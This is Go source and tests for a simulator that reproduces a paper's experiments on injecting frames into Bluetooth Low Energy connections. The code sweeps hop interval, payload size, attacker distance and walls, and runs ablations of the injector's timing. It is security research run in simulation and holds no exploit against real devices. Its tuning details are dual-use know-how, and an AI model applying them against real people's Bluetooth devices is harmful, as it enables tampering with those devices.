			p = 0
		}
		if p >= width {
			p = width - 1
		}
		return p
	}
	line := make([]rune, width)
	for i := range line {
		line[i] = ' '
	}
	lo, q1, med, q3, hi := pos(float64(s.Min())), pos(s.Q1()), pos(s.Median()), pos(s.Q3()), pos(float64(s.Max()))
	for i := lo; i <= hi; i++ {
		line[i] = '-'
	}
	for i := q1; i <= q3; i++ {
		line[i] = '='
	}
	line[lo], line[hi] = '|', '|'
	line[med] = '#'
	return string(line)
}

// Table is a printable result grid.
type Table struct {
	Title  string
	Header []string
	Rows   [][]string
	// Notes are printed under the table (expected shape, caveats).
	Notes []string
}

// Render formats the table as aligned text.
func (t *Table) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "== %s ==\n", t.Title)
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], c)
		}
		b.WriteByte('\n')
	}
	writeRow(t.Header)
	for i, w := range widths {
		if i > 0 {
			b.WriteString("  ")
		}
		b.WriteString(strings.Repeat("-", w))
	}
	b.WriteByte('\n')
	for _, row := range t.Rows {
		writeRow(row)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&b, "note: %s\n", n)
	}
	return b.String()
}
