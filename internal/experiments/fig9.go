package experiments

import (
	"fmt"
	"io"

	"injectable/internal/phy"
)

// Options tunes experiment volume (the paper runs 25 connections per
// configuration; tests may use fewer).
type Options struct {
	// TrialsPerPoint is the number of connections per configuration
	// (0 = 25, as in the paper).
	TrialsPerPoint int
	// SeedBase decorrelates repeated runs.
	SeedBase uint64
	// Progress observes completed trials. Trials are reported in
	// deterministic serial order regardless of Parallel.
	Progress func(point string, trial int)
	// Parallel is the campaign worker count: 0 = all cores, 1 = strictly
	// serial. Results are bit-for-bit identical at any setting; only wall
	// time changes.
	Parallel int
	// JSONL, when non-nil, receives one JSON line per trial (plus campaign
	// header and metrics trailer lines) for offline analysis.
	JSONL io.Writer
	// NDJSON, when non-nil, receives the deterministic result stream
	// (campaign.NewNDJSON): no wall-clock fields, byte-identical at any
	// Parallel setting and across runs. This is the stream the serving
	// daemon caches and replays; the flag exists on cmd/experiments so the
	// two paths can be diffed directly.
	NDJSON io.Writer
	// Metrics, when non-nil, turns on per-trial observability (a fresh
	// obs.Hub per trial) and receives the aggregated per-point metric
	// snapshots as JSON lines. The stream is byte-identical at any
	// Parallel setting.
	Metrics io.Writer
	// Verbose, when non-nil, receives the campaign engine's run summary
	// (workers, trials, retries, utilization) after each sweep.
	Verbose io.Writer
	// Warmup selects the trial execution strategy for sweeps:
	//
	//   ""             — historical default: every trial builds and warms its
	//                    own world from its own seed.
	//   "shared"       — fork fast path: each worker warms one world per
	//                    point (connection established, sniffer synced),
	//                    snapshots it, and forks every trial from the
	//                    snapshot with trial-specific randomness.
	//   "shared-fresh" — differential reference for "shared": every trial
	//                    builds a fresh world but warms it with the point's
	//                    shared warm seed and rekeys with the trial seed.
	//                    Byte-identical outputs to "shared" with no snapshot
	//                    machinery involved — any divergence between the two
	//                    modes indicts snapshot/restore.
	//
	// "shared" and "shared-fresh" agree with each other but sample different
	// worlds than "": the warm phase draws from the shared warm seed rather
	// than the trial seed, so per-trial numbers differ from the historical
	// stream (statistics are equivalent).
	Warmup string
	// PointStart/PointCount select a contiguous sub-range of a servable
	// study's points: the range [PointStart, PointStart+PointCount), with
	// PointCount 0 meaning "through the last point". The distributed
	// fabric shards campaigns along this axis; per-point seed bases are
	// absolute, so a sliced run's trials are bit-identical to the same
	// points inside a full run. (0, 0) — the zero value — selects every
	// point. Only SweepSpec and ScenarioSpec honor the range; the
	// Experiment* table entry points always run the full study.
	PointStart int
	PointCount int
}

func (o *Options) applyDefaults() {
	if o.TrialsPerPoint == 0 {
		o.TrialsPerPoint = 25
	}
	if o.SeedBase == 0 {
		o.SeedBase = 1000
	}
}

// WithDefaults returns o with the trial-count and seed-base defaults
// applied — the exported face of applyDefaults for external spec
// compilers (internal/scenario) that must mirror the catalog's
// normalization exactly.
func (o Options) WithDefaults() Options {
	o.applyDefaults()
	return o
}

// trianglePositions places bulb, central and attacker on the paper's
// equilateral triangle with 2 m edges (Fig. 8 left).
func trianglePositions() (bulb, central, attacker phy.Position) {
	return phy.Position{X: 0, Y: 0}, phy.Position{X: 2, Y: 0}, phy.Position{X: 1, Y: 1.732}
}

// Point is one configuration's result within an experiment series.
type Point struct {
	Label  string
	Series SeriesResult
}

// Experiment is one reproduced figure panel.
type Experiment struct {
	ID     string
	Title  string
	XLabel string
	Points []Point
	Notes  []string
}

// Table renders the experiment as a stats table with ASCII boxplots.
func (e *Experiment) Table() *Table {
	t := &Table{
		Title:  fmt.Sprintf("%s — %s", e.ID, e.Title),
		Header: append(append([]string{e.XLabel}, StatsHeader()...), "fail", "boxplot(0..max)"),
		Notes:  e.Notes,
	}
	for _, p := range e.Points {
		row := append([]string{p.Label}, p.Series.Stats.Row()...)
		row = append(row, fmt.Sprintf("%d", p.Series.Failures), p.Series.Stats.Boxplot(24))
		t.Rows = append(t.Rows, row)
	}
	return t
}

// Experiment1HopInterval reproduces Fig. 9, experiment 1: attempts before
// a successful injection vs Hop Interval ∈ {25,50,75,100,125,150}, on the
// 2 m equilateral triangle, injecting the 22-byte turn-off frame.
//
// Expected shape (paper §VII-A): success for every connection; variance
// shrinking as the interval grows from 25 to 100 and stabilising; medians
// below ≈4.
func Experiment1HopInterval(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "fig9-exp1",
		Title:  "attempts before successful injection vs Hop Interval",
		XLabel: "hopInterval",
		Notes: []string{
			"paper: injection always succeeds; variance decreases 25→100 then stabilises; median < 4",
		},
	}
	points, err := runSweep(opts, exp.ID, exp1Points(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// exp1Points builds experiment 1's sweep: Hop Interval ∈ {25..150} on the
// triangle, preserving the historical per-point seed bases.
func exp1Points(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	var pts []SweepPoint
	for i, interval := range []uint16{25, 50, 75, 100, 125, 150} {
		pts = append(pts, SweepPoint{
			Label:    fmt.Sprintf("%d", interval),
			SeedBase: opts.SeedBase + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval:    interval,
				Payload:     PayloadPowerOff,
				BulbPos:     bulb,
				CentralPos:  central,
				AttackerPos: attacker,
			},
		})
	}
	return pts
}

// Experiment2PayloadSize reproduces Fig. 9, experiment 2: attempts vs the
// injected frame's PDU size ∈ {4,9,14,16} bytes at Hop Interval 75.
//
// Expected shape (paper §VII-B): higher reliability as the payload
// shrinks; medians below ≈3.
func Experiment2PayloadSize(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "fig9-exp2",
		Title:  "attempts before successful injection vs payload size (Hop Interval 75)",
		XLabel: "payload",
		Notes: []string{
			"paper: reliability increases as payload shrinks (smaller collision overlap); median < 3",
		},
	}
	points, err := runSweep(opts, exp.ID, exp2Points(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// exp2Points builds experiment 2's sweep: payload size at Hop Interval 75.
func exp2Points(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	var pts []SweepPoint
	for i, payload := range []Payload{PayloadTerminate, PayloadToggle, PayloadPowerOff, PayloadColor} {
		pts = append(pts, SweepPoint{
			Label:    payload.String(),
			SeedBase: opts.SeedBase + 10000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval:    75,
				Payload:     payload,
				BulbPos:     bulb,
				CentralPos:  central,
				AttackerPos: attacker,
			},
		})
	}
	return pts
}

// distancePositions places the attacker d metres from the bulb, on the
// opposite side of the phone (Fig. 8 right: positions A–F).
func distancePositions(d float64) (bulb, central, attacker phy.Position) {
	return phy.Position{X: 0, Y: 0}, phy.Position{X: 2, Y: 0}, phy.Position{X: -d, Y: 0}
}

// Experiment3Distance reproduces Fig. 9, experiment 3: attempts vs the
// attacker–peripheral distance ∈ {1,2,4,6,8,10} m, with a smartphone
// central 2 m away at its default Hop Interval 36 and the 22-byte frame.
//
// Expected shape (paper §VII-C): attempts and variance grow with distance,
// yet every connection is eventually injected — even at 10 m when the
// master sits at 2 m.
func Experiment3Distance(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "fig9-exp3",
		Title:  "attempts before successful injection vs attacker distance (smartphone master)",
		XLabel: "distance",
		Notes: []string{
			"paper: variance increases with distance; injection still succeeds from every position (A–F)",
		},
	}
	points, err := runSweep(opts, exp.ID, exp3Points(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// exp3Points builds experiment 3's sweep: attacker distance, positions A–F.
func exp3Points(opts Options) []SweepPoint {
	positions := []struct {
		label string
		d     float64
	}{
		{"A:1m", 1}, {"B:2m", 2}, {"C:4m", 4}, {"D:6m", 6}, {"E:8m", 8}, {"F:10m", 10},
	}
	var pts []SweepPoint
	for i, p := range positions {
		bulb, central, attacker := distancePositions(p.d)
		pts = append(pts, SweepPoint{
			Label:    p.label,
			SeedBase: opts.SeedBase + 20000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval:    36,
				Payload:     PayloadPowerOff,
				BulbPos:     bulb,
				CentralPos:  central,
				AttackerPos: attacker,
				PhoneGrade:  true,
			},
		})
	}
	return pts
}

// Experiment3Wall reproduces Fig. 9, experiment 3 (wall variant):
// attacker behind an interior wall at {2,4,6,8} m.
//
// Expected shape (paper §VII-C): the wall costs extra attempts and the
// variance grows with distance, but every connection is still injectable.
func Experiment3Wall(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "fig9-exp3wall",
		Title:  "attempts before successful injection vs distance behind a wall",
		XLabel: "distance",
		Notes: []string{
			"paper: more attempts than open air at the same distance; still succeeds in the worst case",
		},
	}
	points, err := runSweep(opts, exp.ID, exp3WallPoints(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// exp3WallPoints builds the wall variant of experiment 3.
func exp3WallPoints(opts Options) []SweepPoint {
	var pts []SweepPoint
	for i, d := range []float64{2, 4, 6, 8} {
		bulb, central, attacker := distancePositions(d)
		wall := phy.Wall{
			A:    phy.Position{X: -0.5, Y: -10},
			B:    phy.Position{X: -0.5, Y: 10},
			Loss: phy.DefaultWallLoss,
		}
		pts = append(pts, SweepPoint{
			Label:    fmt.Sprintf("%gm+wall", d),
			SeedBase: opts.SeedBase + 30000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval:    36,
				Payload:     PayloadPowerOff,
				BulbPos:     bulb,
				CentralPos:  central,
				AttackerPos: attacker,
				Walls:       []phy.Wall{wall},
				PhoneGrade:  true,
			},
		})
	}
	return pts
}

// progress is a nil-safe progress call.
func (o *Options) progress(point string, trial int) {
	if o.Progress != nil {
		o.Progress(point, trial)
	}
}
