package experiments

import (
	"fmt"

	"injectable/internal/injectable"
	"injectable/internal/medium"
	"injectable/internal/sim"
)

// AblationCaptureModel compares injection difficulty under the three
// collision models of DESIGN.md §4.1: the calibrated phase-capture model,
// the pessimistic "any overlap corrupts" assumption under which Santos et
// al. dismissed injection, and a power-blind coin flip.
func AblationCaptureModel(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "ablation-capture",
		Title:  "capture model vs injection attempts (triangle, Hop Interval 36)",
		XLabel: "model",
		Notes: []string{
			"pessimistic reproduces Santos et al.'s expectation: collisions always corrupt, so",
			"injection only succeeds when the frame fits before the master's — rarely at these intervals",
		},
	}
	points, err := runSweep(opts, exp.ID, ablationCapturePoints(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// ablationCapturePoints builds the capture-model ablation sweep.
func ablationCapturePoints(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	models := []medium.CaptureModel{
		medium.DefaultCaptureModel(),
		medium.Pessimistic{},
		medium.CoinFlip{P: 0.35},
	}
	var pts []SweepPoint
	for i, model := range models {
		pts = append(pts, SweepPoint{
			Label:    model.Name(),
			SeedBase: opts.SeedBase + 40000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval: 36, Payload: PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
				Capture:     model,
				MaxAttempts: 60,
			},
		})
	}
	return pts
}

// AblationAssumedSlaveSCA sweeps the slave-SCA assumption in the widening
// estimate (DESIGN.md §4.2; the paper fixes it at 20 ppm). Too large an
// assumption fires before the window opens; too small yields a late start
// and longer collisions.
func AblationAssumedSlaveSCA(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "ablation-sca",
		Title:  "assumed slave SCA (ppm) vs injection attempts",
		XLabel: "assumedPPM",
		Notes: []string{
			"paper §V-C assumes 20 ppm, 'the worst case from the attacker's perspective';",
			"over-estimating the slave's SCA fires before its window opens until the guard adapts",
		},
	}
	points, err := runSweep(opts, exp.ID, ablationSCAPoints(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// ablationSCAPoints builds the assumed-slave-SCA ablation sweep.
func ablationSCAPoints(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	var pts []SweepPoint
	for i, ppm := range []float64{5, 20, 50, 100, 250} {
		pts = append(pts, SweepPoint{
			Label:    fmt.Sprintf("%.0f", ppm),
			SeedBase: opts.SeedBase + 50000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval: 36, Payload: PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
				// MaxLead is opened up so the widening estimate alone decides
				// the firing instant — the quantity this ablation isolates.
				Injector: injectable.InjectorConfig{
					AssumedSlavePPM: ppm,
					MaxLead:         sim.Millisecond,
				},
			},
		})
	}
	return pts
}

// AblationInjectionTiming compares firing at the window start (the
// attack's choice) against firing at the predicted anchor (DESIGN.md
// §4.3), where the injected frame must race the master head-on.
func AblationInjectionTiming(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "ablation-timing",
		Title:  "injection instant vs attempts (window start vs predicted anchor)",
		XLabel: "instant",
	}
	points, err := runSweep(opts, exp.ID, ablationTimingPoints(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// ablationTimingPoints builds the injection-instant ablation sweep.
func ablationTimingPoints(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	var pts []SweepPoint
	for i, center := range []bool{false, true} {
		label := "window-start"
		if center {
			label = "anchor-center"
		}
		pts = append(pts, SweepPoint{
			Label:    label,
			SeedBase: opts.SeedBase + 60000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval: 36, Payload: PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
				Injector:    injectable.InjectorConfig{InjectAtWindowCenter: center},
				MaxAttempts: 60,
			},
		})
	}
	return pts
}

// AblationAdaptiveGuard isolates the injector's guard adaptation: with a
// deliberately over-estimated widening (assumed slave SCA 250 ppm, lead
// cap open) the attacker fires before the slave's window opens; the
// adaptive guard walks the firing instant into the window, while the
// frozen variant keeps missing.
func AblationAdaptiveGuard(opts Options) (*Experiment, error) {
	opts.applyDefaults()
	exp := &Experiment{
		ID:     "ablation-guard",
		Title:  "adaptive guard vs frozen guard (assumed slave SCA 250 ppm)",
		XLabel: "guard",
	}
	points, err := runSweep(opts, exp.ID, ablationGuardPoints(opts))
	if err != nil {
		return nil, err
	}
	exp.Points = points
	return exp, nil
}

// ablationGuardPoints builds the adaptive-guard ablation sweep.
func ablationGuardPoints(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	var pts []SweepPoint
	for i, disabled := range []bool{false, true} {
		label := "adaptive"
		if disabled {
			label = "frozen"
		}
		pts = append(pts, SweepPoint{
			Label:    label,
			SeedBase: opts.SeedBase + 80000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval: 36, Payload: PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
				Injector: injectable.InjectorConfig{
					AssumedSlavePPM:      250,
					MaxLead:              sim.Millisecond,
					DisableAdaptiveGuard: disabled,
				},
				MaxAttempts: 60,
			},
		})
	}
	return pts
}

// HeuristicValidation measures the success heuristic (eq. 7) against
// simulator ground truth across many trials (DESIGN.md §4.4).
func HeuristicValidation(opts Options) (*Table, error) {
	opts.applyDefaults()
	points, err := runSweep(opts, "heuristic-validation", heuristicPoints(opts))
	if err != nil {
		return nil, err
	}
	tally := points[0].Series.Heuristic
	total := tally.Agree + tally.Disagree
	return &Table{
		Title:  "eq. 7 success-heuristic validation against ground truth",
		Header: []string{"trials", "agree", "disagree", "accuracy"},
		Rows: [][]string{{
			fmt.Sprintf("%d", total),
			fmt.Sprintf("%d", tally.Agree),
			fmt.Sprintf("%d", tally.Disagree),
			fmt.Sprintf("%.1f%%", 100*float64(tally.Agree)/float64(total)),
		}},
		Notes: []string{"the paper validates the ±5 µs timing check empirically (§V-D); so do we"},
	}, nil
}

// heuristicPoints builds the eq. 7 validation sweep (4× the usual trial
// volume on a single configuration).
func heuristicPoints(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	return []SweepPoint{{
		Label:    "heuristic",
		SeedBase: opts.SeedBase + 70000,
		Trials:   opts.TrialsPerPoint * 4,
		Cfg: TrialConfig{
			Interval: 36, Payload: PayloadColor,
			BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
		},
	}}
}
