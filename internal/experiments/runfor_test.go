package experiments

import (
	"context"
	"testing"

	"injectable/internal/sim"
)

// countingCtx counts Err calls so the tests can pin down exactly how many
// cancellation checks a runFor span performs.
type countingCtx struct {
	context.Context
	calls int
}

func (c *countingCtx) Err() error {
	c.calls++
	return c.Context.Err()
}

// lateCancelCtx reports cancellation only from its nth Err call onward —
// a cancel racing the simulation mid-span.
type lateCancelCtx struct {
	context.Context
	calls    int
	cancelAt int
}

func (c *lateCancelCtx) Err() error {
	c.calls++
	if c.calls >= c.cancelAt {
		return context.Canceled
	}
	return nil
}

const runForSlice = 250 * sim.Millisecond

func TestRunForExactSliceChecksContextOnce(t *testing.T) {
	tw, _ := buildTrialWorld(shortCfg().withDefaults())
	ctx := &countingCtx{Context: context.Background()}
	start := tw.w.Now()
	if err := runFor(tw.w, runForSlice, ctx); err != nil {
		t.Fatal(err)
	}
	if got := sim.Duration(tw.w.Now() - start); got != runForSlice {
		t.Fatalf("advanced %v, want %v", got, runForSlice)
	}
	// d == slice is one slice, hence one check. The historical bug was a
	// second Err() consultation after the span completed, which failed
	// finished simulations whose caller canceled during the last slice.
	if ctx.calls != 1 {
		t.Fatalf("Err() called %d times for a one-slice span, want 1", ctx.calls)
	}
}

func TestRunForSlicePlusOneChecksContextTwice(t *testing.T) {
	tw, _ := buildTrialWorld(shortCfg().withDefaults())
	ctx := &countingCtx{Context: context.Background()}
	d := runForSlice + 1 // one full slice plus a 1ns remainder
	start := tw.w.Now()
	if err := runFor(tw.w, d, ctx); err != nil {
		t.Fatal(err)
	}
	if got := sim.Duration(tw.w.Now() - start); got != d {
		t.Fatalf("advanced %v, want %v", got, d)
	}
	if ctx.calls != 2 {
		t.Fatalf("Err() called %d times for a two-slice span, want 2", ctx.calls)
	}
}

func TestRunForCancelDuringFinalSliceStillSucceeds(t *testing.T) {
	tw, _ := buildTrialWorld(shortCfg().withDefaults())
	// Cancellation becomes visible at the second check — after the only
	// slice of a d == slice span has already been simulated to completion.
	ctx := &lateCancelCtx{Context: context.Background(), cancelAt: 2}
	if err := runFor(tw.w, runForSlice, ctx); err != nil {
		t.Fatalf("completed span failed with %v", err)
	}
}

func TestRunForCancelBeforeSecondSliceStopsEarly(t *testing.T) {
	tw, _ := buildTrialWorld(shortCfg().withDefaults())
	ctx := &lateCancelCtx{Context: context.Background(), cancelAt: 2}
	start := tw.w.Now()
	err := runFor(tw.w, runForSlice+1, ctx)
	if err != context.Canceled {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if got := sim.Duration(tw.w.Now() - start); got != runForSlice {
		t.Fatalf("advanced %v before stopping, want exactly one slice (%v)", got, runForSlice)
	}
}

func TestRunForCanceledUpfrontAdvancesNothing(t *testing.T) {
	tw, _ := buildTrialWorld(shortCfg().withDefaults())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	start := tw.w.Now()
	if err := runFor(tw.w, runForSlice, ctx); err != context.Canceled {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if tw.w.Now() != start {
		t.Fatal("canceled span advanced the world")
	}
}

func TestRunForNilContextRunsWhole(t *testing.T) {
	tw, _ := buildTrialWorld(shortCfg().withDefaults())
	start := tw.w.Now()
	d := 3*runForSlice + 7
	if err := runFor(tw.w, d, nil); err != nil {
		t.Fatal(err)
	}
	if got := sim.Duration(tw.w.Now() - start); got != d {
		t.Fatalf("advanced %v, want %v", got, d)
	}
}
