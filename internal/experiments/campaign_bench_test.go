package experiments

import (
	"fmt"
	"testing"
)

// BenchmarkCampaignParallel records the campaign engine's speedup on the
// real workload: a fixed exp1-style sweep (6 Hop Interval points on the
// 2 m triangle) at 1, 2 and 4 workers. Output is identical at every
// worker count; only wall time should move.
func BenchmarkCampaignParallel(b *testing.B) {
	for _, workers := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				exp, err := Experiment1HopInterval(Options{TrialsPerPoint: 2, Parallel: workers})
				if err != nil {
					b.Fatal(err)
				}
				if len(exp.Points) != 6 {
					b.Fatalf("%d points", len(exp.Points))
				}
			}
		})
	}
}
