package experiments

import (
	"reflect"
	"strings"
	"testing"

	"injectable/internal/campaign"
	"injectable/internal/sim"
)

func TestCounterfactualIsServable(t *testing.T) {
	found := false
	for _, name := range SweepNames() {
		if name == counterfactualName {
			found = true
		}
	}
	if !found {
		t.Fatalf("SweepNames() = %v, missing %q", SweepNames(), counterfactualName)
	}
	n, err := SweepPointCount(counterfactualName, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if n != 4 {
		t.Fatalf("SweepPointCount = %d, want 4 payloads", n)
	}
	spec, err := SweepSpec(counterfactualName, Options{TrialsPerPoint: 1, PointStart: 1, PointCount: 2})
	if err != nil {
		t.Fatal(err)
	}
	if len(spec.Points) != 2 {
		t.Fatalf("sliced spec has %d points, want 2", len(spec.Points))
	}
	if spec.Points[0].Warmup == nil || spec.Points[0].WarmSeed == 0 {
		t.Fatal("counterfactual points must carry fork warmups")
	}
}

// TestCounterfactualCampaignDeterministic runs a small counterfactual
// campaign at several worker counts: outcomes must match exactly, no trial
// may fail, and the attack-free arm must never show the effect (the worlds
// are idle but for the attacker).
func TestCounterfactualCampaignDeterministic(t *testing.T) {
	pts := []SweepPoint{
		{Label: "power-off", SeedBase: 7000, Cfg: TrialConfig{
			Interval: 36, Payload: PayloadPowerOff, MaxAttempts: 40, SimBudget: 20 * sim.Second,
		}},
		{Label: "terminate", SeedBase: 7100, Cfg: TrialConfig{
			Interval: 36, Payload: PayloadTerminate, MaxAttempts: 40, SimBudget: 20 * sim.Second,
		}},
	}
	run := func(parallel int) []CounterfactualOutcome {
		opts := Options{TrialsPerPoint: 2, Parallel: parallel}
		var outs []CounterfactualOutcome
		collect := campaign.OnResult(func(r campaign.Result) {
			if r.Err != nil {
				t.Fatalf("parallel=%d: %s[%d]: %v", parallel, r.Point, r.Index, r.Err)
			}
			outs = append(outs, r.Value.(CounterfactualOutcome))
		})
		if _, err := opts.runner(collect).Run(counterfactualSpec(opts, pts)); err != nil {
			t.Fatalf("parallel=%d: %v", parallel, err)
		}
		return outs
	}

	ref := run(1)
	if len(ref) != 4 {
		t.Fatalf("got %d outcomes, want 4", len(ref))
	}
	for i, out := range ref {
		if out.BaselineEffect {
			t.Errorf("outcome %d: effect appeared without any attacker traffic", i)
		}
		if out.Causal != (out.Injected.EffectObserved && !out.BaselineEffect) {
			t.Errorf("outcome %d: causal flag inconsistent: %+v", i, out)
		}
	}
	for _, parallel := range []int{4, 8} {
		if got := run(parallel); !reflect.DeepEqual(got, ref) {
			t.Errorf("parallel=%d outcomes diverge:\n%+v\n--- vs ---\n%+v", parallel, got, ref)
		}
	}
}

func TestCounterfactualTableRenders(t *testing.T) {
	table := CounterfactualTable([]CounterfactualPoint{
		{Label: "power-off(14B)", Trials: 2, HeuristicSuccess: 2, EffectObserved: 2, Causal: 2},
	})
	out := table.Render()
	for _, want := range []string{"counterfactual", "power-off(14B)", "causal"} {
		if !strings.Contains(out, want) {
			t.Errorf("rendered table missing %q:\n%s", want, out)
		}
	}
}
