package experiments

import (
	"math"
	"testing"
)

// Stats must stay total on degenerate sample sets: campaign points can
// legitimately end with 0 successes (every trial failed) or 1–2 successes
// at tiny trial counts, and rendering their rows must not panic.
func TestStatsEmpty(t *testing.T) {
	var s Stats
	if s.N() != 0 || s.Min() != 0 || s.Max() != 0 {
		t.Fatalf("empty counts: N=%d min=%d max=%d", s.N(), s.Min(), s.Max())
	}
	for name, v := range map[string]float64{
		"median": s.Median(), "q1": s.Q1(), "q3": s.Q3(), "mean": s.Mean(),
	} {
		if !math.IsNaN(v) {
			t.Errorf("%s of empty = %v, want NaN", name, v)
		}
	}
	if s.Variance() != 0 {
		t.Errorf("variance of empty = %v", s.Variance())
	}
	if row := s.Row(); len(row) != len(StatsHeader()) {
		t.Errorf("row width %d != header width %d", len(row), len(StatsHeader()))
	}
}

func TestStatsSingleSample(t *testing.T) {
	var s Stats
	s.Add(7)
	// Every quantile of one sample is that sample.
	for name, v := range map[string]float64{
		"median": s.Median(), "q1": s.Q1(), "q3": s.Q3(), "mean": s.Mean(),
	} {
		if v != 7 {
			t.Errorf("%s = %v, want 7", name, v)
		}
	}
	if s.Min() != 7 || s.Max() != 7 || s.Variance() != 0 {
		t.Errorf("min=%d max=%d var=%v", s.Min(), s.Max(), s.Variance())
	}
	if s.Row()[0] != "1" {
		t.Errorf("row n = %q", s.Row()[0])
	}
}

func TestStatsTwoSampleInterpolation(t *testing.T) {
	var s Stats
	s.Add(20)
	s.Add(10)
	// Linear interpolation between the two order statistics: pos = q·(n−1).
	cases := map[string]struct{ got, want float64 }{
		"q1":     {s.Q1(), 12.5},
		"median": {s.Median(), 15},
		"q3":     {s.Q3(), 17.5},
	}
	for name, c := range cases {
		if c.got != c.want {
			t.Errorf("%s = %v, want %v", name, c.got, c.want)
		}
	}
	if s.Min() != 10 || s.Max() != 20 {
		t.Errorf("min=%d max=%d", s.Min(), s.Max())
	}
	if s.Variance() != 50 {
		t.Errorf("variance = %v, want 50", s.Variance())
	}
}

func TestStatsQuantileBoundaries(t *testing.T) {
	var s Stats
	for _, v := range []int{1, 2, 3, 4} {
		s.Add(v)
	}
	if q := s.quantile(0); q != 1 {
		t.Errorf("quantile(0) = %v", q)
	}
	if q := s.quantile(1); q != 4 {
		t.Errorf("quantile(1) = %v", q)
	}
}
