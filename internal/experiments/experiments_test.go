package experiments

import (
	"strings"
	"testing"
)

// Experiments are expensive; tests use small trial counts and verify the
// paper's qualitative shapes, not absolute numbers.
const testTrials = 8

func TestExperiment1HopIntervalShape(t *testing.T) {
	exp, err := Experiment1HopInterval(Options{TrialsPerPoint: testTrials})
	if err != nil {
		t.Fatal(err)
	}
	if len(exp.Points) != 6 {
		t.Fatalf("%d points", len(exp.Points))
	}
	for _, p := range exp.Points {
		if p.Series.Failures > 0 {
			t.Errorf("interval %s: %d failed injections — paper: always succeeds", p.Label, p.Series.Failures)
		}
		if m := p.Series.Stats.Median(); m > 8 {
			t.Errorf("interval %s: median %v attempts — paper reports < 4", p.Label, m)
		}
	}
	t.Log("\n" + exp.Table().Render())
}

func TestExperiment2PayloadSizeShape(t *testing.T) {
	exp, err := Experiment2PayloadSize(Options{TrialsPerPoint: testTrials})
	if err != nil {
		t.Fatal(err)
	}
	if len(exp.Points) != 4 {
		t.Fatalf("%d points", len(exp.Points))
	}
	for _, p := range exp.Points {
		if p.Series.Failures > 0 {
			t.Errorf("payload %s: %d failures", p.Label, p.Series.Failures)
		}
	}
	// Shape: the shortest payload must not be harder than the longest.
	first := exp.Points[0].Series.Stats.Mean() // 4-byte terminate
	last := exp.Points[3].Series.Stats.Mean()  // 16-byte color
	if first > last+2 {
		t.Errorf("short payload harder than long: %.2f vs %.2f mean attempts", first, last)
	}
	t.Log("\n" + exp.Table().Render())
}

func TestExperiment3DistanceShape(t *testing.T) {
	exp, err := Experiment3Distance(Options{TrialsPerPoint: testTrials})
	if err != nil {
		t.Fatal(err)
	}
	if len(exp.Points) != 6 {
		t.Fatalf("%d points", len(exp.Points))
	}
	// Paper: every position eventually succeeds, including 10 m.
	for _, p := range exp.Points {
		if p.Series.Failures > 0 {
			t.Errorf("distance %s: %d failures — paper: succeeds from every position", p.Label, p.Series.Failures)
		}
	}
	// Shape: attempts grow with distance (compare nearest vs farthest).
	near := exp.Points[0].Series.Stats.Mean()
	far := exp.Points[5].Series.Stats.Mean()
	if far <= near {
		t.Errorf("attempts did not grow with distance: near %.2f vs far %.2f", near, far)
	}
	t.Log("\n" + exp.Table().Render())
}

func TestExperiment3WallShape(t *testing.T) {
	exp, err := Experiment3Wall(Options{TrialsPerPoint: testTrials})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range exp.Points {
		if p.Series.Failures > 0 {
			t.Errorf("wall %s: %d failures — paper: still succeeds behind the wall", p.Label, p.Series.Failures)
		}
	}
	t.Log("\n" + exp.Table().Render())
}

